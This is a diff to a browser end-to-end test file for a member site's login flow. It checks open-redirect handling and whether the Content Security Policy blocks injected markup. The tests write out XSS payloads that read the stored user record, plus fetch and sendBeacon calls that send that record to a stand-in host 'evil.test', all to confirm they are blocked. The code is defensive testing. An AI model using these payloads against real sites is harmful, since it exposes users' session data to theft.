@@ -16,7 +16,7 @@ async function fill(page: Page, form: string, { username, password }: typeof MEM
 const storedUser = (page: Page) => page.evaluate(() => JSON.parse(localStorage.getItem('user') ?? 'null'));
 
 describe('Section 4, Login, from the header’s panel', () => {
-  test('wrong credentials say so in the product’s own sentence; right ones open the dashboard, and the record holds a handle', async () => {
+  test('wrong credentials show the specified message; correct ones open the dashboard, and the user record holds a handle', async () => {
     const { page } = await tabs.open('/events');
     const button = page.locator('button[popovertarget=sign-in-panel]');
     await button.click();
@@ -33,24 +33,24 @@ describe('Section 4, Login, from the header’s panel', () => {
       firstName: expect.any(String),
       isActiveMember: true,
     });
-    // Section 2, Login guard: who is signed in has nothing to do at the login.
+    // Section 2, Login guard: a signed-in user is redirected from the login.
     await page.goto(`${site.origin}/login`);
     await page.waitForURL('**/member-dashboard');
   });
 });
 
-describe('where the sign-in page leads [Section 2, Login guard]', () => {
+describe('the page after the sign-in [Section 2, Login guard]', () => {
   test.each([
     ['/login?ReturnUrl=%2Fevents%3FShowOnlyPast%3Dtrue', '/events?ShowOnlyPast=true'],
     ['/login?returnurl=%2Fmember-dashboard%2Fprofessional-profile', '/member-dashboard/professional-profile'],
     ['/login', '/member-dashboard'],
-  ])('%s to %s', async (address, arrival) => {
+  ])('%s to %s', async (address, target) => {
     const { page } = await tabs.open(address);
     await fill(page, 'main', MEMBER);
-    await page.waitForURL(site.origin + arrival);
+    await page.waitForURL(site.origin + target);
   });
 
-  test('without a return address, to the page before', async () => {
+  test('without a return URL, the previous page', async () => {
     const { page } = await tabs.open('/who-we-are/bylaws');
     await page.evaluate(() => {
       location.href = '/login';
@@ -61,7 +61,7 @@ describe('where the sign-in page leads [Section 2, Login guard]', () => {
     await page.waitForURL('**/who-we-are/bylaws');
   });
 
-  test('sixty hostile return addresses stay on this site', async () => {
+  test('sixty hostile return URLs stay on this site', async () => {
     const elsewhere: string[] = [];
     const context = await tabs.context();
     context.on('request', (request) => {
@@ -82,21 +82,21 @@ describe('where the sign-in page leads [Section 2, Login guard]', () => {
     const addresses = [...known, ...Array.from({ length: 54 }, next)].map(
       (target) => `${site.origin}/login?ReturnUrl=${encodeURIComponent(target)}`,
     );
-    // Signed in as they are, the browser is sent on by the server. It reads the address it is sent to as for a page.
-    const arrivals = await page.evaluate(
+    // The server redirects signed-in users. The browser resolves the Location as it does for a document.
+    const responses = await page.evaluate(
       (all) =>
         Promise.all(all.map((address) => fetch(address).then(({ redirected, url }) => ({ redirected, url }), String))),
       addresses,
     );
-    const astray = arrivals
-      .map((arrival, index) => ({ from: addresses[index], arrival }))
+    const astray = responses
+      .map((response, index) => ({ from: addresses[index], response }))
       .filter(
-        ({ arrival }) =>
-          typeof arrival === 'string' || !arrival.redirected || new URL(arrival.url).origin !== site.origin,
+        ({ response }) =>
+          typeof response === 'string' || !response.redirected || new URL(response.url).origin !== site.origin,
       );
-    expect(arrivals).toHaveLength(60);
+    expect(responses).toHaveLength(60);
     expect(astray).toEqual([]);
-    // As pages, whose scripts have a say too.
+    // Also as documents, whose scripts could navigate.
     for (const address of addresses.slice(0, known.length)) {
       await page.goto(address);
       expect(new URL(page.url()).origin, address).toBe(site.origin);
@@ -106,7 +106,7 @@ describe('where the sign-in page leads [Section 2, Login guard]', () => {
 });
 
 describe('Section 2, Member-only guard', () => {
-  test.each([true, false])('leads to the login and back, scripts %s', async (javaScriptEnabled) => {
+  test.each([true, false])('redirects to the login and back, with JavaScript: %s', async (javaScriptEnabled) => {
     const { page } = await tabs.open('/member-dashboard/professional-profile?x=1', { javaScriptEnabled });
     expect(page.url()).toBe(`${site.origin}/login?ReturnUrl=%2Fmember-dashboard%2Fprofessional-profile%3Fx%3D1`);
     await fill(page, 'main', MEMBER);
@@ -115,24 +115,24 @@ describe('Section 2, Member-only guard', () => {
   });
 });
 
-describe('what somebody slips into the page of a member [G8]', () => {
-  const TRAP = 'https://evil.test';
-  const READ = "trapped.push(localStorage.getItem('user'))";
+describe('markup injected into a member’s page [G8]', () => {
+  const EVIL_ORIGIN = 'https://evil.test';
+  const READ = "stolen.push(localStorage.getItem('user'))";
   const MARKUP = [
     `<img src="/x" onerror="${READ}"><svg onload="${READ}"></svg><details open ontoggle="${READ}"></details>`,
     `<iframe srcdoc="<script>parent.${READ}</script>"></iframe><iframe src="javascript:parent.${READ}"></iframe>`,
     `<a id="slipped" href="javascript:${READ}">x</a><object data="data:text/html,<script>parent.${READ}</script>"></object>`,
-    `<link rel="stylesheet" href="${TRAP}/style.css">`,
-    `<form action="${TRAP}/form"><button id="sent" name="a" value="b">x</button></form><img src="${TRAP}/image">`,
+    `<link rel="stylesheet" href="${EVIL_ORIGIN}/style.css">`,
+    `<form action="${EVIL_ORIGIN}/form"><button id="sent" name="a" value="b">x</button></form><img src="${EVIL_ORIGIN}/image">`,
   ].join('');
 
   test.each([
-    ['a page that is kept for everybody', '/who-we-are/bylaws'],
-    ['a page made for one', '/member-dashboard'],
-  ])('%s runs nothing of it, and sends the user record nowhere [G8]', async (_name, path) => {
+    ['a cached page', '/who-we-are/bylaws'],
+    ['a page rendered for one member', '/member-dashboard'],
+  ])('%s executes none of it and sends the user record nowhere [G8]', async (_name, path) => {
     const reached: string[] = [];
     const context = await tabs.context();
-    await context.route(`${TRAP}/**`, (route) => {
+    await context.route(`${EVIL_ORIGIN}/**`, (route) => {
       reached.push(route.request().url());
       return route.fulfill({ body: 'caught' });
     });
@@ -142,10 +142,10 @@ describe('what somebody slips into the page of a member [G8]', () => {
     await page.goto(site.origin + path);
     await hydrated(page);
     const outcome = await page.evaluate(
-      async ([markup, trap]) => {
-        const trapped: unknown[] = [];
+      async ([markup, evilOrigin]) => {
+        const stolen: unknown[] = [];
         const blocked: string[] = [];
-        Object.assign(window, { trapped });
+        Object.assign(window, { stolen });
         document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
           blocked.push(effectiveDirective),
         );
@@ -155,18 +155,18 @@ describe('what somebody slips into the page of a member [G8]', () => {
         slipped.querySelector<HTMLElement>('#slipped')?.click();
         slipped.querySelector<HTMLElement>('#sent')?.click();
         const record = localStorage.getItem('user');
-        // As if a script ran all the same: it reads the record, and can tell nobody.
-        const sent = await fetch(`${trap}/fetch?${record}`, { method: 'POST', mode: 'no-cors' }).then(
+        // Assumes that a script runs all the same: it can read the record but cannot send it.
+        const sent = await fetch(`${evilOrigin}/fetch?${record}`, { method: 'POST', mode: 'no-cors' }).then(
           () => true,
           () => false,
         );
-        navigator.sendBeacon(`${trap}/beacon`, record);
+        navigator.sendBeacon(`${evilOrigin}/beacon`, record);
         await new Promise((resolve) => setTimeout(resolve, 300));
-        return { trapped, blocked, sent, hasRecord: record !== null };
+        return { stolen, blocked, sent, hasRecord: record !== null };
       },
-      [MARKUP, TRAP],
+      [MARKUP, EVIL_ORIGIN],
     );
-    expect(outcome).toMatchObject({ trapped: [], sent: false, hasRecord: true });
+    expect(outcome).toMatchObject({ stolen: [], sent: false, hasRecord: true });
     expect(new Set(outcome.blocked)).toEqual(
       new Set([
         'script-src-attr',
